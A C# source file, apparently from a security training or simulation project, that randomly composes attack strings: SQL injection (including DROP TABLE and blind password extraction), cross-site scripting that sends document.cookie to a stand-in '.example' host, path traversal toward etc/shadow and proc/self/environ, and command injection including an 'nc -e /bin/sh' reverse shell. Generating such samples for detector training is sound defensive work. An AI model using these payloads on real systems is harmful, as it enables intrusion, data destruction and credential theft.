using System.Globalization;

namespace Relay.Training.Simulation;

/// <summary>Attack strings, composed from parts so that few are equal.</summary>
internal static class Payloads
{
    private static readonly string[] Tables = ["users", "accounts", "orders", "information_schema.tables", "sqlite_master"];
    private static readonly string[] Commands =
        ["id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /var/www", "ping -c 3 10.0.0.9", "nc -e /bin/sh 10.0.0.9 4444"];
    private static readonly string[] Files =
        ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "var/log/auth.log", "app/config.yml"];
    private static readonly string[] Events = ["onerror", "onload", "onmouseover", "onfocus"];

    public static string SqlInjection(Random r) => r.Next(7) switch
    {
        0 => $"' OR {r.Next(1, 99)}={r.Next(1, 99)} --",
        1 => $"{r.Next(1, 5000)} UNION SELECT {string.Join(",", Enumerable.Repeat("NULL", r.Next(2, 9)))} FROM {Any(r, Tables)}--",
        2 => $"'; DROP TABLE {Any(r, Tables)}; --",
        3 => $"{r.Next(1, 5000)}' AND (SELECT COUNT(*) FROM {Any(r, Tables)}) > {r.Next(1, 50)} #",
        4 => $"admin'/*{Visitors.Token(r, r.Next(2, 8))}*/OR/**/'{r.Next(9)}'='{r.Next(9)}",
        5 => $"1;WAITFOR DELAY '0:0:{r.Next(3, 15)}'--",
        _ => $"' AND ASCII(SUBSTRING((SELECT password FROM {Any(r, Tables)} LIMIT 1),{r.Next(1, 20)},1))>{r.Next(40, 120)}--",
    };

    public static string CrossSiteScript(Random r) => r.Next(6) switch
    {
        0 => $"<script>alert({r.Next(1, 9999)})</script>",
        1 => $"<img src=x {Any(r, Events)}=alert(document.cookie)>",
        2 => $"\"><svg/{Any(r, Events)}=prompt({r.Next(1, 999)})>",
        3 => $"<iframe src=\"javascript:eval(atob('{Visitors.Token(r, r.Next(12, 40))}'))\"></iframe>",
        4 => $"<body {Any(r, Events)}=fetch('//{Visitors.Token(r, 8)}.example/?c='+document.cookie)>",
        _ => $"<ScRiPt>document.location='http://{Visitors.Token(r, r.Next(5, 14))}.example/'</sCrIpT>",
    };

    public static string Traversal(Random r)
    {
        string step = Any(r, ["../", "..%2f", "%2e%2e/", "..%5c", "....//"]);
        return string.Concat(Enumerable.Repeat(step, r.Next(2, 12))) + Any(r, Files) + Any(r, ["", "", ".png", ".bak"]);
    }

    public static string CommandInjection(Random r)
    {
        string command = Any(r, Commands);
        return r.Next(6) switch
        {
            0 => $"; {command}",
            1 => $"| {command}",
            2 => $"&& {command} #",
            3 => $"`{command}`",
            4 => $"$({command})",
            _ => string.Create(CultureInfo.InvariantCulture, $"127.0.0.{r.Next(1, 255)}; {command}; {Any(r, Commands)}"),
        };
    }

    private static string Any(Random r, string[] items) => items[r.Next(items.Length)];
}
